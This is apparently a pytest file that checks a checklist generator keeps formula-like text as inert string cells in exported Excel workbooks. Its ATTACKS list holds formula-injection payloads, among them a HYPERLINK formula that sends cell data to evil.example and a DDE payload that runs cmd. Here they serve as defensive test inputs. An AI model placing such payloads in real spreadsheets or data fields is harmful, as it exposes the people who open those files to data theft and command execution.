"""Excel cells hold data, not formulas: text typed in a product file is never evaluated."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from conftest import minimal, write_yaml
from openpyxl import load_workbook
from typer.testing import CliRunner

from dossier import cli
from dossier.check import check_project
from dossier.checklist import checklist_bytes
from dossier.project import open_project
from dossier.rules import load_rules

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
]


def product(tmp_path: Path) -> Path:
    data = minimal()
    data["product"]["code"] = "=HX-019"
    data["meeting"]["purpose"] = "+SUM(1,2)"
    data["questions"] = [
        {"text": text, "discipline": "临床", "background": "-背景", "purpose": "@目的"} for text in ATTACKS
    ]
    return write_yaml(tmp_path / "p.yaml", data)


def test_formula_like_text_is_a_string_cell(tmp_path: Path) -> None:
    path = product(tmp_path)
    project = open_project(path)
    rules = load_rules()
    data = checklist_bytes(project, rules, check_project(project, rules))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    wb = load_workbook(io.BytesIO(data))
    cells = {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value}
    for text in [*ATTACKS, "=HX-019"]:
        assert text in cells, text
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    assert all(c.data_type != "f" for c in cells.values())


def test_status_round_trip_keeps_a_formula_like_product_code(tmp_path: Path) -> None:
    path = product(tmp_path)
    runner = CliRunner()
    written = runner.invoke(cli.app, ["checklist", str(path), "-o", str(tmp_path / "c.xlsx")])
    assert written.exit_code == 0, written.output
    wb = load_workbook(tmp_path / "c.xlsx", data_only=True)
    meta = {r[0]: r[1] for r in wb["_dossier"].iter_rows(values_only=True)}
    assert meta["product_code"] == "=HX-019"
    status = runner.invoke(cli.app, ["status", str(tmp_path / "c.xlsx"), "--product", str(path)])
    assert status.exit_code == 1, status.output  # outstanding work, not a foreign checklist (2)
